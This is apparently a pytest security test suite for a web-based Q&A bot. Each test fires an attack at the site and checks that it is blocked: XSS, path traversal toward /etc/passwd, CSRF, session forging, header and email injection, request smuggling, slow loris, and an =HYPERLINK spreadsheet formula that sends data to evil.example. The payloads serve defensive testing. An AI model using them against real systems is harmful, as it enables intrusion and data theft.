"""What somebody who means harm would try: a table of attacks, each with what must not come of it."""

from __future__ import annotations

import asyncio
import re
import select
import socket
import time
from collections.abc import Awaitable, Callable, Iterator
from contextlib import closing
from io import BytesIO
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from bot import wording
from bot.channels.web import server
from bot.channels.web.rate_limits import Limits, Rate
from bot.hot_reload.live_knowledge import LiveKnowledge
from bot.settings import Settings
from bot.store.sqlite_store import SqliteStore
from tests.house import Clock
from tests.web_rig import BASE, Web, form, served, web, words

pytestmark = pytest.mark.anyio
EVIL = "https://evil.example"
SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(1)>'
Attack = Callable[[Web, httpx.AsyncClient], Awaitable[None]]


def admin_of(site: Web, who: str = "telegram:1") -> str:
    """The cookie of a session that is open."""
    from bot.channels.web.visitors import digest

    site.site.services.store.open_session(digest("s" * 40), who, 9e12)
    return "s" * 40


# ---------------------------------------------------------------- posts from elsewhere


async def cross_site_ask(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={"q": "x"}, headers={"sec-fetch-site": "cross-site"})
    assert page.status_code == 403


async def same_site_but_other_origin_ask(site: Web, client: httpx.AsyncClient) -> None:
    assert (await client.post("/ask", data={"q": "x"}, headers={"sec-fetch-site": "same-site"})).status_code == 403


async def evil_origin(site: Web, client: httpx.AsyncClient) -> None:
    assert (await client.post("/ask", data={"q": "x"}, headers={"origin": EVIL})).status_code == 403


async def null_origin(site: Web, client: httpx.AsyncClient) -> None:
    """A sandboxed frame."""
    assert (await client.post("/ask", data={"q": "x"}, headers={"origin": "null"})).status_code == 403


async def cross_site_delete(site: Web, client: httpx.AsyncClient) -> None:
    await client.post("/ask", data={"q": "怎么加入工会"})
    assert (await client.post("/privacy", data={"sure": "1"}, headers={"origin": EVIL})).status_code == 403
    assert len(site.site.services.store.asked_between(0, 9e12)) == 1


async def cross_site_console(site: Web, client: httpx.AsyncClient) -> None:
    client.cookies.set("jha", admin_of(site))
    for path in ("/admin/logout", "/admin/new", "/admin/inquiries/1", "/admin/import", "/admin/documents/setup-guide"):
        assert (await client.post(path, data={"do": "save"}, headers={"sec-fetch-site": "cross-site"})).status_code == 403


async def other_methods(site: Web, client: httpx.AsyncClient) -> None:
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "CONNECT"):
        assert (await client.request(method, "/ask")).status_code == 405
    assert (await client.get("/admin/logout")).status_code == 405


async def a_get_changes_nothing(site: Web, client: httpx.AsyncClient) -> None:
    await client.post("/ask", data={"q": "怎么加入工会"})
    await client.get("/privacy", params={"sure": "1"})
    assert len(site.site.services.store.asked_between(0, 9e12)) == 1


# ---------------------------------------------------------------- frames


async def framed_site(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.get("/")
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert page.headers["x-frame-options"] == "DENY"


async def framed_console(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.get("/admin/login")
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]


async def embedded_elsewhere(site: Web, client: httpx.AsyncClient) -> None:
    policy = (await client.get("/embed/ask")).headers["content-security-policy"]
    assert "frame-ancestors 'self' https://gh.example.org" in policy
    assert "evil" not in policy


# ---------------------------------------------------------------- scripts in texts


async def script_in_question(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={"q": SCRIPT})
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert "'unsafe-inline'" not in page.headers["content-security-policy"]


async def script_in_an_address(site: Web, client: httpx.AsyncClient) -> None:
    for path in ("/ask", "/search"):
        assert "<script>alert" not in (await client.get(path, params={"q": SCRIPT})).text


async def script_in_a_label(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={"action": "m", "label": SCRIPT})
    assert "<script>alert" not in page.text


async def script_in_a_form(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/documents/leave-application/fill", data={"f0": SCRIPT, "f1": SCRIPT, "do": "look"})
    assert "<script>alert" not in page.text
    page = await client.get("/documents/leave-application/fill")
    assert "<script>alert" not in page.text


async def script_in_a_persons_answer(site: Web, client: httpx.AsyncClient) -> None:
    await client.post("/ask", data={"q": "冰箱里的剩菜能放几天"})
    site.staff.inquiries.run_due_work()
    [inquiry] = site.staff.inquiries.open_by_priority()
    site.staff.inquiries.answer(inquiry, SCRIPT, "telegram:1")
    assert "<script>alert" not in (await client.get("/talk")).text


async def script_in_a_question_that_an_admin_reads(site: Web, client: httpx.AsyncClient) -> None:
    await client.post("/ask", data={"q": "楼下烧烤摊太吵怎么投诉" + SCRIPT})
    site.staff.inquiries.run_due_work()
    client.cookies.set("jha", admin_of(site))
    for path in ("/admin", "/admin/inquiries", "/admin/inquiries/1"):
        page = await client.get(path)
        assert page.status_code == 200
        assert "<script>alert" not in page.text


async def script_in_the_path(site: Web, client: httpx.AsyncClient) -> None:
    for path in (
        "/a/<script>alert(1)</script>",
        "/topics/<script>",
        "/laws/<script>alert(1)</script>",
        "/<script>alert(1)</script>",
    ):
        page = await client.get(path)
        assert page.status_code == 404
        assert "<script>alert" not in page.text


async def script_in_an_upload_s_name(site: Web, client: httpx.AsyncClient) -> None:
    client.cookies.set("jha", admin_of(site))
    page = await client.post("/admin/import", data={"do": "try"}, files={"file": (SCRIPT + ".exe", b"x")})
    assert page.status_code == 409
    assert "<script>alert" not in page.text


async def script_as_a_mode(site: Web, client: httpx.AsyncClient) -> None:
    assert "<script>alert" not in (await client.get("/topics", params={"mode": SCRIPT, "by": SCRIPT})).text


# ---------------------------------------------------------------- files that aren't ours to give


async def up_the_tree(site: Web, client: httpx.AsyncClient) -> None:
    tries = (
        "/files/../../pyproject.toml",
        "/files/..%2f..%2fpyproject.toml",
        "/static/..%2fchannel.py",
        "/static/../channel.py",
        "/files/%2e%2e/%2e%2e/etc/passwd",
        "/talk/files/../0",
        "/documents/..%2f..%2f.env/read",
        "/static/%00",
        "/files/setup-guide.%2e%2e",
    )
    for path in tries:
        page = await client.get(httpx.URL(BASE + path))
        assert page.status_code in (400, 404), path
        assert "[project]" not in page.text
        assert "root:" not in page.text


async def another_s_file(site: Web, client: httpx.AsyncClient) -> None:
    async with site.browser("203.0.113.9") as other:
        for text in ("填退会申请书", "某某工会", "王小明", "某某公司", "装配车间", "跳过", "个人原因", "没有领过", "生成"):
            page = await other.post("/ask", data={"q": text})
        link = re.search(r'href="(/talk/files/[^"]+)"', page.text)
        assert link
        assert (await other.get(link[1])).content.startswith(b"PK")
    assert (await client.get(link[1])).status_code == 404


async def unknown_suffix(site: Web, client: httpx.AsyncClient) -> None:
    for suffix in ("yaml", "md", "py", "docx.bak", "DOCX%00", ""):
        assert (await client.get(httpx.URL(f"{BASE}/files/setup-guide.{suffix}"))).status_code in (400, 404)


# ---------------------------------------------------------------- who somebody is


async def forged_visitor(site: Web, client: httpx.AsyncClient) -> None:
    async with site.browser() as other:
        page = await other.post("/ask", data={"q": "怎么加入工会"})
        signed = other.cookies["jh"]
    visitor, _, rest = signed.partition(".")
    client.cookies.set("jh", visitor + "." + rest[:-2] + "xx")
    assert "怎么加入工会" not in words((await client.get("/talk")).text)
    assert "怎么加入工会" in words(page.text)


async def forged_private_link(site: Web, client: httpx.AsyncClient) -> None:
    async with site.browser() as other:
        page = await other.post("/ask", data={"q": "冰箱里的剩菜能放几天"})
        page = await other.post("/ask", data=form(page.text, "/ask", wording.BUTTON_HUMAN))
        page = await other.post("/ask", data=form(page.text, "/ask", wording.HUMAN_SEND))
        link = re.search(r'href="(/q/[^"]+)"', page.text)
    assert link
    assert (await client.get(link[1][:-1] + ("A" if link[1][-1] != "A" else "B"))).status_code == 404
    assert (await client.get("/q/" + link[1][3:].partition(".")[0])).status_code == 404


async def a_cookie_as_a_talk_or_a_link(site: Web, client: httpx.AsyncClient) -> None:
    """What is signed for one thing opens no other."""
    async with site.browser() as other:
        await other.post("/ask", data={"q": "怎么加入工会"})
        signed = other.cookies["jh"]
    assert (await client.get(f"/q/{signed}")).status_code == 404
    page = await client.post("/embed/ask", data={"q": "依据是什么", "talk": signed})
    assert "怎么加入工会" not in page.text


async def another_s_buttons(site: Web, client: httpx.AsyncClient) -> None:
    async with site.browser() as other:
        await other.post("/ask", data={"q": "怎么加入工会"})
    await client.post("/ask", data={"q": "会费交多少"})
    for action in ("f:1:0", "r:1:wrong", "h:1"):
        await client.post("/ask", data={"action": action, "label": "x"})
    store = site.site.services.store
    assert store.recorded(1).useful is None
    assert all(one.record != 1 for one in store.handovers(kind=""))


async def session_fixed_before_signing_in(site: Web, client: httpx.AsyncClient) -> None:
    from bot.channels.web.visitors import digest

    store = site.site.services.store
    client.cookies.set("jha", "f" * 40, domain="127.0.0.1", path="/admin")
    store.issue_token(digest("t" * 40), "telegram:1", 9e12)
    page = await client.post("/admin/login", data={"token": "t" * 40})
    assert page.status_code == 200
    assert store.session(digest("f" * 40)) is None


async def guessed_session(site: Web, client: httpx.AsyncClient) -> None:
    for cookie in ("", "1", "a" * 43, "' OR 1=1 --", "telegram:1"):
        client.cookies.clear()
        client.cookies.set("jha", cookie)
        assert (await client.get("/admin")).status_code == 401


async def token_replayed(site: Web, client: httpx.AsyncClient) -> None:
    from bot.channels.web.visitors import digest

    site.site.services.store.issue_token(digest("t" * 40), "telegram:1", 9e12)
    assert (await client.post("/admin/login", data={"token": "t" * 40})).status_code == 200
    client.cookies.clear()
    assert (await client.post("/admin/login", data={"token": "t" * 40})).status_code == 403


async def token_guessed(site: Web, client: httpx.AsyncClient) -> None:
    found = [(await client.post("/admin/login", data={"token": f"guess{number}"})).status_code for number in range(30)]
    assert set(found) <= {403, 429}
    assert 429 in found


async def token_too_old(site: Web, client: httpx.AsyncClient) -> None:
    from bot.channels.web.visitors import digest

    site.site.services.store.issue_token(digest("o" * 40), "telegram:1", time.time() - 1)
    assert (await client.post("/admin/login", data={"token": "o" * 40})).status_code == 403


async def session_of_nobody(site: Web, client: httpx.AsyncClient) -> None:
    client.cookies.set("jha", admin_of(site, "telegram:999"))
    assert (await client.get("/admin")).status_code == 401


async def session_read_from_cookie_of_visitors(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={"q": "x 怎么加入工会"}, follow_redirects=False)
    said = page.headers["set-cookie"]
    assert "HttpOnly" in said
    assert "SameSite=lax" in said


# ---------------------------------------------------------------- addresses and headers


async def open_redirect(site: Web, client: httpx.AsyncClient) -> None:
    for path in (
        "//evil.example",
        "/ask?q=&next=https://evil.example",
        "/talk?url=//evil.example",
        "/%0d%0aLocation:%20https://evil.example",
    ):
        page = await client.get(httpx.URL(BASE + path), follow_redirects=False)
        assert "evil" not in page.headers.get("location", "")
        assert 'href="//' not in page.text


async def host_header(site: Web, client: httpx.AsyncClient) -> None:
    for path in ("/", "/atom.xml", "/for-sites"):
        page = await client.get(path, headers={"host": "evil.example"})
        assert page.status_code == 400
        assert "evil" not in page.text


async def forged_forwarded_for(site: Web, client: httpx.AsyncClient) -> None:
    """A header that nobody is believed: the limit counts the address that really asks."""
    found = set()
    for number in range(140):
        page = await client.post(
            "/ask", data={"q": ""} if number else {"q": "好"}, headers={"x-forwarded-for": f"10.0.{number}.1"}
        )
        found.add(page.status_code)
        client.cookies.clear()
    for number in range(140):
        page = await client.get("/ask", params={"q": "你好"}, headers={"x-forwarded-for": f"10.1.{number}.1"})
        found.add(page.status_code)
        client.cookies.clear()
    assert 429 in found


async def header_injection(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.get("/ask", params={"q": "x\r\nset-cookie: jha=1"}, follow_redirects=False)
    assert "jha" not in page.headers.get("set-cookie", "")


# ---------------------------------------------------------------- too much


async def too_large(site: Web, client: httpx.AsyncClient) -> None:
    assert (await client.post("/ask", data={"q": "长" * 400_000})).status_code == 413


async def too_large_without_a_length(site: Web, client: httpx.AsyncClient) -> None:
    async def endless() -> object:
        for _ in range(3000):
            yield b"q=" + b"x" * 1000

    head = {"content-type": "application/x-www-form-urlencoded"}
    page = await client.post("/ask", content=endless(), headers=head)  # type: ignore[arg-type]  # bytes
    assert page.status_code in (400, 413)
    assert site.site.services.store.asked_between(0, 9e12) == ()


async def too_many_fields(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={f"f{number}": "x" for number in range(5000)})
    assert page.status_code in (400, 413)


async def a_file_where_none_belongs(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={"q": "你好"}, files={"q2": ("a.docx", b"PK" * 1000)})
    assert page.status_code == 400


async def broken_multipart(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", content=b"--x\r\nnonsense", headers={"content-type": "multipart/form-data; boundary=x"})
    assert page.status_code in (400, 422)
    assert "Traceback" not in page.text


async def bytes_that_are_no_text(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post(
        "/ask", content=b"q=%ff%fe%00%ed%a0%80", headers={"content-type": "application/x-www-form-urlencoded"}
    )
    assert page.status_code < 500


async def an_action_too_long(site: Web, client: httpx.AsyncClient) -> None:
    page = await client.post("/ask", data={"action": "e:" + "x" * 10_000, "label": "y"})
    assert page.status_code == 422
    page = await client.post("/ask", data={"action": "f:99999999999999999999:1", "label": "y"})
    assert page.status_code == 200


async def errors_tell_nothing(site: Web, client: httpx.AsyncClient) -> None:
    for path in ("/nothing", "/a/x", "/q/x", "/api/v1/x", "/admin/knowledge/x"):
        said = (await client.get(path)).text
        assert "Traceback" not in said
        assert str(Path.cwd()) not in said


# ---------------------------------------------------------------- more of the wire


async def ranges_without_end(site: Web, client: httpx.AsyncClient) -> None:
    """Thousands of overlapping ranges: the file once more for each would be gigabytes, sorting them out minutes."""
    whole = len((await client.get("/files/setup-guide.docx")).content)
    asked = ",".join(f"{at}-" for at in range(4000))
    page = await client.get("/files/setup-guide.docx", headers={"range": f"bytes={asked}"})
    assert page.status_code in (200, 206, 400, 416)
    assert len(page.content) <= 2 * whole
    for odd in ("bytes=-", "bytes=9-1", "bytes=a-b", "bytes=0-0,-1,99999999999999999999-", "lines=1-2"):
        assert (await client.get("/files/setup-guide.docx", headers={"range": odd})).status_code < 500


async def another_address_in_a_header(site: Web, client: httpx.AsyncClient) -> None:
    """What proxies before some servers say; nobody asked this one to listen."""
    client.headers.update({"x-original-url": "/admin", "x-rewrite-url": "/admin", "x-forwarded-host": "evil.example"})
    for path in ("/", "/for-sites", "/atom.xml", "/sitemap.xml"):
        page = await client.get(path)
        assert "evil.example" not in page.text
        assert page.status_code in (200, 404)


async def another_method_in_a_header(site: Web, client: httpx.AsyncClient) -> None:
    client.cookies.set("jha", admin_of(site))
    await client.get("/admin/logout", headers={"x-http-method-override": "POST"})
    await client.get("/admin/new", params={"_method": "POST", "do": "save", "question": "甲", "answer": "乙"})
    assert (await client.get("/admin")).status_code == 200
    assert site.site.services.knowledge().get("甲") is None


async def doors_beside_the_console(site: Web, client: httpx.AsyncClient) -> None:
    """Other spellings of its address get nothing either."""
    for path in (
        "//admin",
        "/admin/",
        "/%61dmin/knowledge",
        "/Admin",
        "/admin;x=1",
        "/./admin",
        "/x/..;/admin",
        "/admin%2fknowledge",
    ):
        page = await client.get(httpx.URL(BASE + path))
        assert page.status_code in (400, 401, 404), path
        assert wording.CONSOLE_INQUIRIES not in page.text


async def a_cookie_that_was_signed_out(site: Web, client: httpx.AsyncClient) -> None:
    client.cookies.set("jha", admin_of(site))
    assert (await client.get("/admin")).status_code == 200
    await client.post("/admin/logout")
    client.cookies.clear()
    client.cookies.set("jha", "s" * 40)
    assert (await client.get("/admin")).status_code == 401


async def a_token_spent_by_two_at_once(site: Web, client: httpx.AsyncClient) -> None:
    from bot.channels.web.visitors import digest

    site.site.services.store.issue_token(digest("t" * 40), "telegram:1", 9e12)
    async with site.browser() as other:
        pages = await asyncio.gather(*(one.post("/admin/login", data={"token": "t" * 40}) for one in (client, other)))
    assert sorted(page.status_code for page in pages) == [200, 403]


async def one_form_from_two_hands(site: Web, client: httpx.AsyncClient) -> None:
    """The same key at the same time: one question, one answer."""
    await client.post("/ask", data={"q": "你好"})
    sent = {"q": "会费交多少", "once": "k" * 20}
    await asyncio.gather(*(client.post("/ask", data=sent) for _ in range(5)))
    asked = [one for one in site.site.services.store.asked_between(0, 9e12) if one.question == "会费交多少"]
    assert len(asked) == 1


async def several_cookies_of_one_name(site: Web, client: httpx.AsyncClient) -> None:
    async with site.browser() as other:
        await other.post("/ask", data={"q": "怎么加入工会"})
        signed = other.cookies["jh"]
    page = await client.get("/talk", headers={"cookie": f"jh=x; jh={signed[:-3]}; jha=1; jha=2"})
    assert page.status_code < 500
    assert "怎么加入工会" not in words(page.text)


async def an_address_with_a_second_header(site: Web, client: httpx.AsyncClient) -> None:
    """In the field for a mailbox."""
    page = await client.post("/ask", data={"q": "冰箱里的剩菜能放几天"})
    link = re.search(r'href="(/q/[^"]+)"', page.text)
    assert link
    for address in ("a@b.cn\r\nBcc: x@evil.example", "a@b.cn,x@evil.example", "<script>@b.cn", "a@b.cn\0"):
        await client.post(f"{link[1]}/mail", data={"address": address})
        assert "evil.example" not in (await client.get(link[1])).text


# ---------------------------------------------------------------- what programs read


async def a_question_as_a_formula(site: Web, client: httpx.AsyncClient) -> None:
    """What enough people ask stands in the report: as words, whatever it begins with."""
    formula = '=HYPERLINK("https://evil.example?"&A1,"冰箱里的剩菜能放几天")'
    for number in range(6):
        async with site.browser(f"203.0.{number}.9") as other:
            await other.post("/ask", data={"q": formula})
    client.cookies.set("jha", admin_of(site))
    for path in ("/admin/numbers/report.xlsx", "/admin/export.xlsx"):
        file = await client.get(path)
        assert file.status_code == 200
        cells = [cell for sheet in load_workbook(BytesIO(file.content)) for row in sheet.iter_rows() for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f" and "evil" in str(cell.value)] == []


async def json_without_an_end(site: Web, client: httpx.AsyncClient) -> None:
    for body in ("[" * 100_000, '{"question":' * 20_000, '{"question": ' + "9" * 50_000 + "}", '{"question": NaN}', "\ufeff{}"):
        page = await client.post("/api/v1/ask", content=body.encode(), headers={"content-type": "application/json"})
        assert page.status_code in (400, 413, 422), body[:20]


async def json_of_another_shape(site: Web, client: httpx.AsyncClient) -> None:
    for question in ({"$ne": ""}, ["a"], None, True, 1, ""):
        assert (await client.post("/api/v1/ask", json={"question": question})).status_code == 422
    assert (await client.post("/api/v1/ask", json=["question"])).status_code in (400, 422)
    for query in (
        "limit=1e9",
        "limit=-1",
        "offset=99999999999999999999",
        "limit=%00",
        "limit=１０",
        "topic=../x",
        "q=" + "%E9%95%BF" * 900,
    ):
        for path in ("entries", "documents", "laws", "changes"):
            assert (await client.get(f"/api/v1/{path}?{query}")).status_code < 500, (path, query)


async def a_text_that_takes_for_ever(site: Web, client: httpx.AsyncClient) -> None:
    """Patterns that go back and forth over a long run."""
    for text in ("（" * 1900, "a" * 1900, "一" * 1900, "?" * 1900, "的吗" * 950, "1." * 950, "第一条" * 600, "\u0301" * 1900):
        async with asyncio.timeout(30):
            assert (await client.post("/ask", data={"q": text})).status_code < 500
        async with asyncio.timeout(30):
            assert (await client.get("/search", params={"q": text[:200]})).status_code < 500


async def text_that_turns_what_follows(site: Web, client: httpx.AsyncClient) -> None:
    """Marks of writing direction in a question would turn around what stands beside it on an admin's page."""
    await client.post("/ask", data={"q": "冰箱里的剩菜\u202e能放几天\u2066"})
    site.staff.inquiries.run_due_work()
    client.cookies.set("jha", admin_of(site))
    for path in ("/admin", "/admin/inquiries", "/admin/inquiries/1"):
        assert not set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068") & set((await client.get(path)).text)


# ---------------------------------------------------------------- admins of less standing


async def an_upload_s_name_leads_elsewhere(site: Web, client: httpx.AsyncClient) -> None:
    client.cookies.set("jha", admin_of(site))
    before = sorted(path for path in site.settings.guides.rglob("*") if path.is_file())
    for name in ("../../../evil.docx", "/etc/evil.docx", "..\\..\\evil.docx", "setup-guide.docx\0.exe"):
        await client.post("/admin/documents/setup-guide", data={"do": "check"}, files={"file": (name, b"PK\x03\x04 no zip")})
    assert sorted(path for path in site.settings.guides.rglob("*") if path.is_file()) == before


async def an_editor_says_yes_to_herself(site: Web, client: httpx.AsyncClient) -> None:
    from bot.model import Change, Proposal

    store = site.site.services.store
    held = store.hold_edit("telegram:2", Proposal("改", (Change("setup.yaml", "a", "b"),), ("setup-must",)))
    client.cookies.set("jha", admin_of(site, "telegram:2"))
    page = await client.post(f"/admin/held/{held.id}", data={"do": "agree"})
    assert page.status_code in (403, 409)
    kept = store.held_edit(held.id)
    assert kept is not None
    assert kept.state == "open"


async def an_old_edit_saved_again(site: Web, client: httpx.AsyncClient) -> None:
    """A made-up confirmation of an edit that nobody was shown."""
    client.cookies.set("jha", admin_of(site))
    known = site.site.services.knowledge().get("setup-must")
    data = {"do": "save", "sure": "0" * 24, "seen": "0" * 24, "answer": "改了", "question": "改了"}
    await client.post("/admin/knowledge/setup-must", data=data)
    await client.post("/admin/import", data={"do": "apply", "nonce": "n"}, files={"x": ("", b"")})
    assert site.site.services.knowledge().get("setup-must") == known


async def an_address_put_into_a_page_of_everybody(site: Web, client: httpx.AsyncClient) -> None:
    """Whoever is the first to ask for a page with a query of her own must not leave it in the page that others get."""
    for path in ("/topics", "/laws", "/documents", "/", "/news"):
        first = await client.get(f"{path}?evil=buy-now&by=evil-by")
        later = await client.get(path)
        assert "evil" not in first.text + later.text
        assert first.headers["etag"] == later.headers["etag"]  # nor is it made anew for each query
    by_topic = await client.get("/documents?by=topic&evil=1")
    assert by_topic.headers["etag"] != later.headers["etag"]
    assert "evil" not in by_topic.text
    assert "by=topic" in by_topic.text  # the link to large type stays on the same list


ATTACKS: tuple[Attack, ...] = (
    cross_site_ask, same_site_but_other_origin_ask, evil_origin, null_origin, cross_site_delete, cross_site_console,
    other_methods, a_get_changes_nothing, framed_site, framed_console, embedded_elsewhere, script_in_question,
    script_in_an_address, script_in_a_label, script_in_a_form, script_in_a_persons_answer,
    script_in_a_question_that_an_admin_reads, script_in_the_path, script_in_an_upload_s_name, script_as_a_mode, up_the_tree,
    another_s_file, unknown_suffix, forged_visitor, forged_private_link, a_cookie_as_a_talk_or_a_link, another_s_buttons,
    session_fixed_before_signing_in, guessed_session, token_replayed, token_guessed, token_too_old, session_of_nobody,
    session_read_from_cookie_of_visitors, open_redirect, host_header, forged_forwarded_for, header_injection, too_large,
    too_large_without_a_length, too_many_fields, a_file_where_none_belongs, broken_multipart, bytes_that_are_no_text,
    an_action_too_long, errors_tell_nothing, ranges_without_end, another_address_in_a_header, another_method_in_a_header,
    doors_beside_the_console, a_cookie_that_was_signed_out, a_token_spent_by_two_at_once, one_form_from_two_hands,
    several_cookies_of_one_name, an_address_with_a_second_header, a_question_as_a_formula, json_without_an_end,
    json_of_another_shape, a_text_that_takes_for_ever, text_that_turns_what_follows, an_upload_s_name_leads_elsewhere,
    an_editor_says_yes_to_herself, an_old_edit_saved_again, an_address_put_into_a_page_of_everybody,
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda one: one.__name__)
async def test_nothing_comes_of_an_attack(
    attack: Attack, web_settings: Settings, live: LiveKnowledge, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("JIANHUI_ADMINS", "telegram:1, telegram:2=编辑")
    store = SqliteStore(tmp_path / "web.db")
    admins = ("telegram:1", "telegram:2")
    with web(web_settings, live, store, web_embed=("https://gh.example.org",), admins=admins) as site:
        async with site.browser() as client:
            await attack(site, client)
    store.close()


@pytest.fixture(scope="module")
def wire_base(web_settings: Settings, live: LiveKnowledge, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a site on a port."""
    with closing(SqliteStore(tmp_path_factory.mktemp("wire") / "web.db")) as store, served(web_settings, live, store) as base:
        yield base


def test_a_drip_of_bytes_is_not_waited_for(
    web_settings: Settings, live: LiveKnowledge, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Slow loris: fifty connections that never finish a request are closed, and pages go on being served meanwhile."""
    monkeypatch.setattr(server, "PATIENCE", 2.0)
    store = SqliteStore(tmp_path / "web.db")
    with served(web_settings, live, store) as base:
        asyncio.run(_drip(base))
    store.close()


async def _drip(base: str) -> None:
    host, _, port = base.removeprefix("http://").partition(":")
    slow = [await asyncio.open_connection(host, int(port)) for _ in range(50)]
    for _, writer in slow:
        writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ")
    async with httpx.AsyncClient() as client:
        assert (await client.get(base)).status_code == 200
        async with asyncio.timeout(20):
            ends = await asyncio.gather(*(reader.read() for reader, _ in slow), return_exceptions=True)
        assert len(ends) == 50
        assert (await client.get(base)).status_code == 200


@pytest.mark.skipif(not hasattr(select, "poll"), reason="this system can't be asked who hung up")
def test_who_takes_nothing_of_what_she_asked_for_is_not_waited_for(
    web_settings: Settings, live: LiveKnowledge, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More is asked for than the system holds ready, and none of it is read."""
    monkeypatch.setattr(server, "STALLED", 1.0)
    with closing(SqliteStore(tmp_path / "web.db")) as store, served(web_settings, live, store) as base:
        host, _, port = base.removeprefix("http://").partition(":")
        with closing(socket.create_connection((host, int(port)))) as greedy:
            greedy.sendall(b"GET /laws HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 3000)
            hung_up = select.poll()
            hung_up.register(greedy, select.POLLHUP)
            assert hung_up.poll(60_000)
        assert httpx.get(base, timeout=60).status_code == 200


def test_one_address_cannot_hold_every_connection(web_settings: Settings, live: LiveKnowledge, tmp_path: Path) -> None:
    """More connections than are served at all, with nothing asked on them: others' pages go on being served."""
    with closing(SqliteStore(tmp_path / "web.db")) as store, served(web_settings, live, store) as base:
        asyncio.run(_holding(base))


async def _holding(base: str) -> None:
    host, _, port = base.removeprefix("http://").partition(":")
    held = await asyncio.gather(*(asyncio.open_connection(host, int(port)) for _ in range(server.MOST + 20)))  # all at once
    async with httpx.AsyncClient(timeout=60) as client:
        assert (await client.get(base)).status_code == 200
    for _, writer in held:
        writer.close()


async def test_a_flood_of_one_address_is_not_waited_for_by_others(site: Web) -> None:
    """Thirty questions of one network wait in a row of their own: another one's is answered among the first."""
    answered: list[str] = []

    async def asks(address: str, text: str) -> None:
        async with site.browser(address, follow_redirects=False) as client:
            assert (await client.post("/ask", data={"q": text})).status_code == 303
            answered.append(address)

    flood = [asyncio.create_task(asks("192.0.2.66", f"会费怎么交{number}")) for number in range(30)]
    await asyncio.sleep(0.1)
    before = len(answered)
    await asks("198.51.100.5", "怎么加入工会")
    assert len(answered) - before <= 12  # two of the flood's with the desk, and what ends while hers is kept and shown
    await asyncio.gather(*flood)
    assert len(answered) == 31


async def test_who_is_refused_again_costs_the_store_nothing(tmp_path: Path) -> None:
    clock = Clock()
    with closing(SqliteStore(tmp_path / "web.db", clock=clock)) as store:
        limits, rate = Limits(store, clock), Rate(2, 0.5)
        assert [limits.wait("ask:x", rate) for _ in range(3)] == [0, 0, 2]
        assert await limits.refused("ask:y") == 0
        store.close()  # whoever asked the store now would fail
        assert await limits.refused("ask:x") == 2
        clock.now += 1.5
        assert await limits.refused("ask:x") == 1
        clock.now += 1
        assert await limits.refused("ask:x") == 0  # it is over


async def test_a_clock_set_back_refuses_nobody_for_longer(tmp_path: Path) -> None:
    clock = Clock()
    with closing(SqliteStore(tmp_path / "web.db", clock=clock)) as store:
        limits = Limits(store, clock)
        assert [limits.wait("ask:x", Rate(1, 0.5)) for _ in range(2)] == [0, 2]
        clock.now -= 86400
        assert await limits.refused("ask:x") == 0


def test_small_pieces_are_sent_at_once() -> None:
    """Pages don't wait 40 ms for an ACK: asyncio turns Nagle's algorithm off for sockets that say they are TCP."""
    with closing(server.listening("127.0.0.1", 0, 20_000)) as at:
        assert at.proto == socket.IPPROTO_TCP


@pytest.mark.parametrize(
    "sent",
    [
        b"POST /ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        b"GET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"POST /ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nq=abcd",
        b"GET http://evil.example/for-sites HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET /for-sites HTTP/1.0\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: " + b"a" * 200_000 + b"\r\n\r\n",
        b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: b\nadmin: 1\r\n\r\n",
    ],
    ids=[
        "two lengths", "unequal lengths", "whole address", "two hosts", "no host", "old", "long head", "long path", "tls",
        "bare newline",
    ],
)  # fmt: skip
def test_what_is_no_proper_request_is_not_served(sent: bytes, wire_base: str) -> None:
    answer = asyncio.run(_told(wire_base, sent))
    assert b"evil.example" not in answer
    assert answer.count(b"HTTP/1.1 ") <= 1  # what was hidden in the body is no request of its own
    assert b" 500 " not in answer.partition(b"\r\n")[0]


async def _told(base: str, sent: bytes) -> bytes:
    host, _, port = base.removeprefix("http://").partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    answer = b""
    try:
        writer.write(sent)
        async with asyncio.timeout(30):
            await writer.drain()
            while more := await reader.read(65536):
                answer += more
    except (OSError, TimeoutError):
